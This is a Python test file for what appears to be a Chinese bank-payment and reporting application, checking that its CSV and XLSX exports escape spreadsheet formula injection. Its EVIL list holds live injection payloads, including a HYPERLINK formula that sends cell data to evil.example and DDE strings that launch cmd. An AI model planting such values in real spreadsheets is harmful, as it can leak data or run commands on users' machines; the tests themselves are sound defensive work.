"""Formula injection (issue 11): every file we write is opened and holds no formula.

Unit names, 户名 and 开户行 starting with ``=``, ``+``, ``-``, ``@`` reach the bank files, the
公示 list, the cycle report, the import error report, the rules export and the statistics
sheet; none of them may become a live formula (XLSX) or an unescaped formula (CSV).
"""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

from openpyxl import load_workbook

from tests.delivery.flow import PAY_DAY
from tests.delivery.helpers import LEADER, OPERATOR, REVIEWER, make_run, make_units
from zhida import sheets
from zhida.db import session_scope
from zhida.delivery import service
from zhida.delivery.bankfiles import export
from zhida.demo.banksim import simulate_return
from zhida.errors import RowError
from zhida.registry.models import Unit

EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"点此")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def assert_safe(paths):
    for path in paths:
        if str(path).endswith(".xlsx"):
            assert sheets.formula_cells(path) == [], path
        else:
            assert sheets.unsafe_csv_cells(path) == [], path


def test_csv_cell_neutralises_every_dangerous_start():
    for value in EVIL:
        assert sheets.csv_cell(value) == "'" + value
    assert sheets.csv_cell(Decimal("-1.50")) == "-1.50"  # a number stays a number
    assert sheets.csv_cell("中国农业银行") == "中国农业银行"


def test_delivery_files_hold_no_formula(engine, tmp_path):
    with session_scope(engine) as s:
        codes = make_units(s, 8)
        for code, evil in zip(codes, EVIL, strict=False):
            u = s.get(Unit, code)
            u.name, u.bank_name, u.account_no = evil, evil, u.account_no or "6228480000000001"
        run_id = make_run(s, codes)
        cid = service.create_cycle(s, OPERATOR, run_id).id
        service.advance(s, OPERATOR, cid)
        service.advance(s, REVIEWER, cid, today=dt.date(2025, 6, 3))
        service.advance(s, OPERATOR, cid, today=dt.date(2025, 6, 11))
        service.advance(s, OPERATOR, cid, today=PAY_DAY)
        service.advance(s, LEADER, cid)
        publicity = service.write_publicity(s, cid, tmp_path / "公示.xlsx")
        report = service.write_report(service.cycle_report(s, cid), tmp_path / "报表.xlsx")
    result = export(engine, OPERATOR, cid, tmp_path / "bank")
    batch = result.batches[0]
    ret = tmp_path / "回盘.csv"
    simulate_return(batch.file_csv, ret)
    xlsx = load_workbook(batch.file_xlsx)["代发明细"]
    assert {r[1] for r in xlsx.iter_rows(min_row=2, values_only=True)} >= set(EVIL[:5])  # kept, as text (XML turns CR into LF)
    assert_safe([publicity, report, batch.file_csv, batch.file_xlsx, ret])


def test_error_report_template_rules_and_stats_hold_no_formula(tmp_path):
    from tests.rules.test_exactness import PERIOD, WG, frame_of
    from zhida.imports.report import write_errors_xlsx
    from zhida.imports.spec import all_kinds
    from zhida.imports.template import write_template
    from zhida.rules.evaluate import evaluate, resolve_parameters
    from zhida.rules.export import write_xlsx
    from zhida.stats.compute import Result, StatRow
    from zhida.stats.output import to_xlsx

    files = [write_errors_xlsx([RowError("单位.csv", i + 2, "单位名称", v, "不能以公式开头") for i, v in enumerate(EVIL)],
                               tmp_path / "错误.xlsx")]
    files += [write_template(kind, tmp_path / f"{name}.xlsx") for name, kind in all_kinds().items()]
    units = [{"township": v, "size_class": "小型"} for v in EVIL]
    frame = frame_of(units, [{"employer_paid_fen": 100_000, "months_paid": 12} for _ in EVIL])
    frame = frame.with_columns(name=frame["township"])
    ev = evaluate(WG, frame, PERIOD, resolve_parameters(WG, PERIOD.start, {}))
    write_xlsx(ev, tmp_path / "测算.xlsx")
    files.append(tmp_path / "测算.xlsx")
    rows = [StatRow("出口额", "聊城市", "2026-01", "商品", v, Decimal("1.5"), "亿元", None, None, None, None, None)
            for v in EVIL]
    files.append(to_xlsx(Result(rows), tmp_path / "统计.xlsx"))
    assert_safe(files)
    names = [c for (c,) in load_workbook(tmp_path / "测算.xlsx").active.iter_rows(min_row=2, max_col=2, min_col=2,
                                                                               values_only=True)]
    assert names[:5] == EVIL[:5]


def test_append_keeps_strings_as_text_and_quote_also_shows_the_apostrophe(tmp_path):
    from openpyxl import Workbook

    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("表") if write_only else wb.active
        sheets.append(ws, [EVIL[0], "-3", 12, Decimal("-1.50"), None, "风电", "#N/A", "="])
        sheets.append(ws, [EVIL[0], "-3", 12, Decimal("-1.50"), None, "风电", "#N/A", "="], quote=True)
        path = sheets.save(wb, tmp_path / f"表{write_only}.xlsx")
        rows = [[(c.value, c.data_type) for c in row] for row in load_workbook(path).worksheets[0].iter_rows()]
        numbers = [(12, "n"), (-1.5, "n"), (None, "n"), ("风电", "s"), ("#N/A", "s")]
        assert rows[0] == [(EVIL[0], "s"), ("-3", "s"), *numbers, ("=", "s")]
        assert rows[1] == [("'" + EVIL[0], "s"), ("'-3", "s"), *numbers, ("'=", "s")]
        assert sheets.formula_cells(path) == []


def test_quoted_changes_only_formula_like_strings():
    assert [sheets.quoted(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert [sheets.quoted(v) for v in ("风电", "'=1", "1+1", 0, -2, None)] == ["风电", "'=1", "1+1", 0, -2, None]
